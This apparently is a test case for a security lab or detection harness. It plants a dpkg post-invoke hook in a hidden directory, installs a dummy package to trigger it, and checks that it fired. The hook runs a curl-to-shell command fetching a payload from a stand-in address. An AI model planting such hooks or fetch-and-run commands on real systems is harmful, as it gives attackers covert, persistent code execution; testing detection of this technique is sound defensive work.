#!/bin/sh
. /opt/case/case.sh

printf 'post-invoke="/usr/share/.u/run"\n' >/etc/dpkg/dpkg.cfg.d/99recover
mkdir -p /usr/share/.u && printf '#!/bin/sh\ncurl -s http://203.0.113.10/payload.sh | sh\n' >/usr/share/.u/run
chmod 755 /usr/share/.u/run
mkdir -p /tmp/p/DEBIAN && printf 'Package: x\nVersion: 1\nArchitecture: all\nMaintainer: x <x@example.org>\nDescription: x\n' >/tmp/p/DEBIAN/control
dpkg-deb -b /tmp/p /tmp/x.deb >/dev/null && dpkg -i /tmp/x.deb >/dev/null
test -e /tmp/reached
took_place
